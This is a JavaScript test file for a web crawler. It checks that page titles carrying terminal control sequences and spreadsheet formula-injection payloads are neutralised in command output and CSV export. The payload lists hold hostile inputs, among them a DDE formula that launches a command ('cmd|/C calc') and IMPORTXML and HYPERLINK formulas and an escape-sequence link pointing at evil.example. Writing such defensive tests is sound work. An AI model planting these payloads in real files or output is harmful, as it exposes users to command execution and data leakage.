// What pages write into terminals and spreadsheets.
import { mkdtempSync, readFileSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { plainJson, plainText } from '../../dist/core/plain-text.js';
import { crawl } from '../../dist/library/crawl.js';
import { exportCollection } from '../../dist/storage/export/export-collection.js';
import { openCollection } from '../../dist/storage/open.js';
import { run } from '../support/commands.js';
import { httpServer } from '../support/servers.js';

/** What a terminal obeys: C0 and C1 controls, line and paragraph separators, marks of direction and of form. */
const obeyed = [
  ...Array.from({ length: 0x20 }, (_, code) => code),
  ...Array.from({ length: 0x21 }, (_, i) => 0x7f + i),
  ...[0x2028, 0x2029, 0x061c, 0x200e, 0x200f, 0xfeff],
  ...Array.from({ length: 5 }, (_, i) => 0x202a + i),
  ...Array.from({ length: 10 }, (_, i) => 0x2066 + i),
].map(code => String.fromCharCode(code));
const sequences = [
  '\u001b[2J',
  '\u001b]0;title\u0007',
  '\u001b]8;;http://evil.example\u0007x',
  '\u009b31m',
  '\u0090q\u009c',
  '\r\u001b[Kfake',
];
const formulas = [
  ...['=1+1', '+1+1', '-1+1', '@SUM(A1)', '\t=1+1', '\r=1+1', ' =1+1', '=HYPERLINK("http://evil.example/","x")'],
  ...[
    '＝1+1',
    '\u00a0=1+1',
    '"=1+1',
    '=cmd|"/C calc"!A0',
    '-2+3+cmd|"/C calc"!A0',
    '=IMPORTXML("http://evil.example","//a")',
  ],
];
const leaks = /[^\P{Cc}\n]|[\u2028\u2029\u061c\u200e\u200f\ufeff\u202a-\u202e\u2066-\u206f]/u;

/**
 * @param {(collection: { folder: string, place: string }) => Promise<import('../cases.js').Outcome>} work
 * @param {readonly string[]} titles
 */
async function withTitles(titles, work) {
  const place = mkdtempSync(join(tmpdir(), 'honeyguide-output-'));
  const server = await httpServer((request, response) => {
    const n = Number(/\d+/.exec(String(request.url))?.[0] ?? -1);
    const links = n < 0 ? titles.map((title, i) => `<a href="/${i}">bees ${escaped(title)}</a>`).join(' ') : '';
    const title = n < 0 ? 'bees' : escaped(titles[n] ?? '');
    response.writeHead(request.url === '/robots.txt' ? 404 : 200, { 'content-type': 'text/html; charset=utf-8' });
    response.end(`<title>${title}</title><meta name="author" content="${title}"><p>${title} wild bees ${n} ${links}`);
  });
  try {
    const folder = join(place, 'bees');
    const seeds = [`${server.origin}/`];
    await crawl({
      query: 'bees',
      seeds,
      delay: 0,
      hostConcurrency: 8,
      allowPrivate: ['*'],
      pages: titles.length + 1,
      out: folder,
    });
    return await work({ folder, place });
  } finally {
    server.close();
    rmSync(place, { recursive: true, force: true });
  }
}

/** @param {string} text */
const escaped = text => text.replace(/[&<>"\r\n\t]|[\u0080-\u009f]/g, found => `&#${found.charCodeAt(0)};`);

/** @type {import('../cases.js').Case[]} */
export const outputCases = [
  {
    name: 'commands to the terminal',
    async attack() {
      const hostile = [...obeyed, ...sequences];
      const plain = hostile.filter(
        text => !leaks.test(plainText(text)) && !leaks.test(plainJson({ text }).replace(/\n/g, '')),
      );
      const printed = await withTitles([hostile.join('x'), sequences.join(' ')], async ({ folder }) => {
        const commands = [
          ['stats'],
          ['search', 'bees'],
          ['search', 'bees', '--json'],
          ['stats', '--verify'],
          ['export', '--format', 'jsonl', '--all'],
        ];
        const outs = await Promise.all(commands.map(([command, ...words]) => run(command, folder, ...words)));
        const complaints = await Promise.all(sequences.map(text => run('explain', folder, `http://a.example/${text}`)));
        const all = [...outs, ...complaints];
        return {
          tried: all.length,
          held: all.filter(({ out, error }) => out + error !== '' && !leaks.test(out + error)).length,
          seen: '',
        };
      });
      return {
        tried: hostile.length + printed.tried,
        held: plain.length + printed.held,
        seen: `${hostile.length} characters and sequences, ${printed.tried} commands`,
      };
    },
  },
  {
    name: 'formulas in CSV',
    attack: () =>
      withTitles(formulas, async ({ folder, place }) => {
        const out = join(place, 'bees.csv');
        const collection = openCollection(folder);
        await exportCollection(collection, { out, all: true });
        const titles = [...collection.pages({ all: true })].map(({ title }) => title).filter(title => title !== 'bees');
        collection.close();
        const cells = readFileSync(out, 'utf8').split(/\r\n|,/);
        const run = cells.filter(cell => /^"?[\s\u00a0\ufeff]*[=+@＝]|^"?[\t\r]|^"?\s*-(?![\d.]+$)/.test(cell));
        return {
          tried: titles.length,
          held: titles.length - run.length,
          seen: `${run.length} cells that a spreadsheet would run`,
        };
      }),
  },
];
